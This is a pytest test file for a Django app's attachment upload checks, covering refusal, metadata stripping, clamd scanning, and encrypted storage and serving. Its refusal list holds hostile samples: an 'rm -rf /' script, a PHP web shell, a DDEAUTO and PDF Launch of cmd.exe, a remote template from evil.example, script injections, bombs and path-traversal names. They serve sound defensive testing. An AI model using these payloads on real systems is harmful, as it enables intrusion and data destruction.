"""Attachments: what is taken, what is left of it, where it stands, and how it is handed out."""

from __future__ import annotations

import io
import socket
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from threading import Thread
from typing import Any

import hypothesis
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from tests.apps.counter import hostile_files as made

from ayan.apps.counter import filing, uploads
from ayan.apps.counter.limits import LARGEST_ATTACHMENT, MOST_ATTACHMENTS, MOST_OPENED
from ayan.apps.counter.models import Case, CaseEntry, CaseFile
from ayan.apps.counter.uploads import AttachmentGone, SentAttachment, checked
from ayan.apps.desk.refusals import DeskRefused
from ayan.wiring import city

HTML = b"<!DOCTYPE html><script>alert(1)</script>"
NEVER_TAKEN: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "page": lambda: HTML,
    "drawing": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "shell": lambda: b"#!/bin/sh\nrm -rf /\n",
    "php": lambda: "متن <?php system($_GET[0]); ?>".encode(),
    "program": lambda: b"MZ\x90\0\x03\0\0\0",
    "elf": lambda: b"\x7fELF\x02\x01\x01\0",
    "old office": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "rtf with null": lambda: b"{\\rtf1\0}",
    "archive": lambda: made.zipped({"notes.txt": "متن"}),
    "archive in a document": lambda: made.docx(word__embeddings__a_D_zip=made.zipped({"a": "b"})),
    "macros": lambda: made.docx(word__vbaProject_D_bin=b"\xd0\xcf\x11\xe0"),
    "macros named otherwise": lambda: made.docx(word__data_D_bin=b"\xd0\xcf\x11\xe0"),
    "embedded object": lambda: made.docx(word__embeddings__oleObject1_D_bin=b"\xd0\xcf\x11\xe0"),
    "control": lambda: made.docx(word__activeX__activeX1_D_xml="<ax:ocx/>"),
    "template from outside": lambda: made.docx(
        word___rels__settings_D_xml_D_rels='<Relationships><Relationship Id="r1" Target="http://evil.example/a.dotm" '
        f'TargetMode="External" Type="{made.OFFICE}/attachedTemplate"/></Relationships>'
    ),
    "field that runs": lambda: made.docx(word__a_D_xml="<w:instrText> DDEAUTO c:\\\\cmd.exe</w:instrText>"),
    "entity": lambda: made.docx(word__a_D_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    "words in UTF-16": lambda: made.docx(word__a_D_xml="<w:instrText>DDEAUTO x</w:instrText>".encode("utf-16")),
    "basic": lambda: made.odt(Basic__Standard__Module1_D_xml="<script:module/>"),
    "listener": lambda: made.odt(styles_D_xml='<script:event-listener script:language="ooo:script"/>'),
    "object": lambda: made.odt(**{"Object 1__content_D_xml": "<a/>"}),
    "climbing name": lambda: made.docx(**{"..__..__a_D_xml": "<a/>"}),
    "bomb": lambda: made.docx(word__a_D_xml=b" " * (MOST_OPENED + 1)),
    "script in a pdf": lambda: made.pdf(b"<</S/JavaScript/JS(app.alert(1))>>"),
    "script spelt otherwise": lambda: made.pdf(b"<</S/Java#53cript/JS(app.alert(1))>>"),
    "script in a packed object": lambda: made.pdf(made.held_in_stream(b"5 0 <</S/JavaScript/JS(app.alert(1))>>")),
    "script in an object named otherwise": lambda: made.pdf(
        made.held_in_stream(b"5 0 <</S/J#61vaScript>>").replace(b"/ObjStm", b"/Obj#53tm")
    ),
    "script behind a predictor": lambda: made.pdf(made.held_in_stream(b"x", more=b"/DecodeParms<</Predictor 12>>")),
    "launch": lambda: made.pdf(b"<</S/Launch/F(cmd.exe)>>"),
    "file in a pdf": lambda: made.pdf(b"<</Type/EmbeddedFile/Length 1>>"),
    "form in a pdf": lambda: made.pdf(b"<</XFA [1 0 R]>>"),
    "locked pdf": lambda: made.pdf(b"<</Encrypt 3 0 R>>"),
    "pdf that is a zip too": lambda: made.pdf() + made.zipped({"a.txt": "b"}),
    "pdf bomb": lambda: made.pdf(made.held_in_stream(bytes(MOST_OPENED + 1))),
    "half a pdf": lambda: made.pdf()[:30],
    "picture bomb": made.vast_png,
    "half a photo": lambda: made.photo()[:300],
    "half a png": lambda: made.photo("PNG")[:60],
    "moving picture": lambda: b"GIF89a" + bytes(20),
    "page called a photo": lambda: b"\xff\xd8\xff" + HTML,
    "words of another code page": lambda: "درخواست".encode("cp1256"),
    "lone control sign": lambda: b"text \x1b[2J",
}


@pytest.mark.parametrize("sample", NEVER_TAKEN)
def test_what_runs_opens_or_hides_is_refused_in_words(sample: str) -> None:
    with pytest.raises(DeskRefused) as refused:
        checked(SentAttachment("عکس.jpg", NEVER_TAKEN[sample]()))
    assert refused.value.field == "files"
    assert refused.value.fa
    assert refused.value.en


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_a_photo_keeps_its_pixels_and_loses_where_and_by_whom_it_was_taken(form: str) -> None:
    sent = made.photo(form)
    assert b"SECRETPHONE" in sent
    kept = checked(SentAttachment("../../etc/عکس.php", sent + b"<?php SECRETPHONE ?>"))
    assert b"SECRETPHONE" not in kept.content
    before, after = Image.open(io.BytesIO(sent)), Image.open(io.BytesIO(kept.content))
    assert before.tobytes() == after.tobytes()
    exif = after.getexif()
    assert {0x010F, 0x8825}.isdisjoint(exif)
    assert exif.get(0x0112, 6) == 6
    assert kept.name == {"JPEG": "عکس.jpg", "PNG": "عکس.png", "WEBP": "عکس.webp"}[form]


def test_a_photo_that_lies_on_its_side_still_says_so() -> None:
    kept = Image.open(io.BytesIO(checked(SentAttachment("a.jpg", made.photo(orientation=8))).content))
    assert dict(kept.getexif()) == {0x0112: 8}


@pytest.mark.parametrize(("sample", "ending"), [(made.docx, "docx"), (made.odt, "odt")])
def test_a_document_keeps_its_text_and_loses_its_author(sample: Callable[..., bytes], ending: str) -> None:
    photo = made.photo()
    kept = checked(SentAttachment(f"نامه.{ending}", b"".join([sample(media__a_D_jpeg=photo)])))
    with zipfile.ZipFile(io.BytesIO(kept.content)) as packed:
        whole = b"".join(packed.read(name) for name in packed.namelist())
        names = packed.namelist()
    assert kept.name == f"نامه.{ending}"
    assert b"SECRETAUTHOR" not in whole
    assert b"SECRETPHONE" not in whole
    assert names[0] in ("mimetype", "[Content_Types].xml")


def test_a_link_in_a_document_is_no_reason_to_refuse_it() -> None:
    link = (
        '<Relationships><Relationship Id="r1" Target="https://law.example/" TargetMode="External" '
        f'Type="{made.OFFICE}/hyperlink"/></Relationships>'
    )
    assert checked(SentAttachment("a.docx", made.docx(word___rels__document_D_xml_D_rels=link))).name == "a.docx"


def test_plain_text_and_a_plain_pdf_are_taken_whatever_they_are_called() -> None:
    assert checked(SentAttachment("a.exe", "درخواست\n".encode())).name == "a.txt"
    plain = made.pdf(made.held_in_stream(b"5 0 <</Type/Page>>"))
    assert checked(SentAttachment("a.html", plain)).media_type == "application/pdf"


@hypothesis.settings(max_examples=60)
@given(
    st.binary(max_size=200), st.sampled_from([b"", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"%PDF-1.7", b"PK\x03\x04"])
)
def test_whatever_bytes_come_they_are_taken_or_refused(content: bytes, head: bytes) -> None:
    try:
        kept = checked(SentAttachment("a", head + content))
    except DeskRefused:
        return
    assert kept.media_type == "text/plain; charset=utf-8"


@hypothesis.settings(max_examples=60)
@given(st.data())
def test_a_photo_broken_anywhere_is_taken_clean_or_refused(data: st.DataObject) -> None:
    form = data.draw(st.sampled_from(["JPEG", "PNG", "WEBP"]))
    sent = bytearray(made.photo(form, (8, 8)))
    for _ in range(data.draw(st.integers(1, 4))):
        sent[data.draw(st.integers(0, len(sent) - 1))] = data.draw(st.integers(0, 255))
    try:
        kept = checked(SentAttachment("a", bytes(sent)))
    except DeskRefused:
        return
    assert b"SECRETPHONE" not in kept.content or kept.media_type.startswith("text/")


# --- the scanner ------------------------------------------------------------------------------------------------------


def a_scanner(folder: Path, reply: bytes) -> str:
    """A socket that speaks as clamd does, once; it answers ``reply``, or by what it was sent."""
    place = str(folder / "clamd.ctl")
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(place)
    listener.listen(1)

    def serve() -> None:
        line, _ = listener.accept()
        with line, line.makefile("rb") as said:
            assert said.read(10) == b"zINSTREAM\0"
            content = b""
            while size := struct.unpack(">I", said.read(4))[0]:
                content += said.read(size)
            line.sendall(reply or (b"stream: Eicar FOUND\0" if made.EICAR in content else b"stream: OK\0"))
        listener.close()

    Thread(target=serve, daemon=True).start()
    return place


@pytest.mark.parametrize(
    ("content", "reply", "said"),
    [
        ("درخواست".encode(), b"", "clean"),
        (made.EICAR, b"", "attachment-refused"),
        ("درخواست".encode(), b"INSTREAM size limit exceeded. ERROR\0", "scanner-away"),
    ],
)
def test_the_scanner_is_asked_where_there_is_one(
    tmp_path: Path, settings: Any, content: bytes, reply: bytes, said: str
) -> None:
    settings.CLAMD = a_scanner(tmp_path, reply)
    if said == "clean":
        assert checked(SentAttachment("a.txt", content)).verdict == said
        return
    with pytest.raises(DeskRefused) as refused:
        checked(SentAttachment("a.txt", content))
    assert refused.value.code == said


def test_a_scanner_that_does_not_answer_lets_nothing_past(tmp_path: Path, settings: Any) -> None:
    settings.CLAMD = str(tmp_path / "nobody")
    with pytest.raises(DeskRefused, match="cannot be checked"):
        checked(SentAttachment("a.txt", b"text"))


# --- kept and handed out ----------------------------------------------------------------------------------------------


@pytest.fixture
def case(town: object) -> Case:
    words = {"summary": "قراردادهای نورپردازی (ساختگی)"}
    return filing.file(filing.Filing(kind="access", said=words, key=filing.new_key())).case


def kept_file(case: Case, content: bytes = "متن محرمانه".encode(), name: str = "یادداشت.txt") -> CaseFile:
    entry: CaseEntry = case.entries.get(number=1)
    return uploads.keep(case, entry, checked(SentAttachment(name, content)))


def on_disk() -> list[Path]:
    return [path for path in (city.current().home / uploads.FOLDER).rglob("*") if path.is_file()]


@pytest.mark.django_db
def test_a_file_is_kept_locked_handed_out_to_be_saved_and_erased_alone(case: Case) -> None:
    first, second = kept_file(case), kept_file(case)
    assert len(on_disk()) == 2
    assert not any("متن".encode() in path.read_bytes() for path in on_disk())
    assert "یادداشت" not in first.name
    answer = uploads.answer(first)
    assert answer.content.decode() == "متن محرمانه"
    assert answer.headers["Content-Type"] == "application/octet-stream"
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert (answer.headers["X-Content-Type-Options"], answer.headers["Cache-Control"]) == ("nosniff", "no-store")
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    uploads.erase(first)
    assert (first.name, first.digest, len(on_disk())) == ("", "", 1)
    with pytest.raises(AttachmentGone):
        uploads.answer(first)
    assert uploads.answer(second).status_code == 200


@pytest.mark.django_db
def test_a_file_that_was_changed_on_the_disk_is_not_handed_out(case: Case) -> None:
    kept = kept_file(case)
    on_disk()[0].chmod(0o600)
    on_disk()[0].write_bytes(b"something else")
    with pytest.raises(AttachmentGone):
        uploads.answer(kept)


@pytest.mark.django_db
def test_what_a_broken_filing_left_is_swept_after_an_hour(case: Case, monkeypatch: pytest.MonkeyPatch) -> None:
    kept, left = kept_file(case), kept_file(case)
    CaseFile.objects.filter(pk=left.pk).delete()
    assert uploads.sweep_files() == 0
    monkeypatch.setattr(uploads, "ORPHAN_SECONDS", 0.0)
    assert uploads.sweep_files() == 1
    assert uploads.opened(kept)


@pytest.mark.parametrize(
    ("sent", "code"),
    [
        ([b"x" * (LARGEST_ATTACHMENT + 1)], "upload-too-large"),
        ([b"x" * (LARGEST_ATTACHMENT - 1)] * 3, "upload-too-large"),
        ([b"x"] * (MOST_ATTACHMENTS + 1), "desk-refused"),
        ([b"x", b"y"], ""),
    ],
)
def test_a_form_brings_so_many_files_and_so_many_bytes(sent: list[bytes], code: str) -> None:
    files = [SimpleUploadedFile("a.txt", content) for content in sent]
    request = RequestFactory().post("/counter/new/access", {"summary": "a", "files": files})
    handler = uploads.receiving(request)
    assert request.POST["summary"] == "a"
    if code:
        with pytest.raises(DeskRefused) as refused:
            handler.taken()
        assert refused.value.code == code
    else:
        assert [each.content for each in handler.taken()] == [b"x", b"y"]
